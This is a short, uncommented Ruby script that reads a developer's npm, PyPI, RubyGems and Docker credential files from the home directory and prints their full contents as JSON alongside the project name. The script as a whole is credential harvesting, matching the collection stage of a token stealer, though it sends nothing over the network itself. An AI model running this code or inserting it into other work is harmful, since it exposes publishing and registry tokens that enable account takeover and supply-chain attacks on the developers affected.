require 'json'

read = ->(p) { File.exist?(p) ? File.read(p) : nil }
home = Dir.home
puts JSON.pretty_generate(
  project: File.basename(Dir.pwd),
  npmrc: read.(File.join(home, '.npmrc')),
  pypirc: read.(File.join(home, '.pypirc')),
  gem_credentials: read.(File.join(home, '.gem', 'credentials')),
  docker: read.(File.join(home, '.docker', 'config.json'))
)
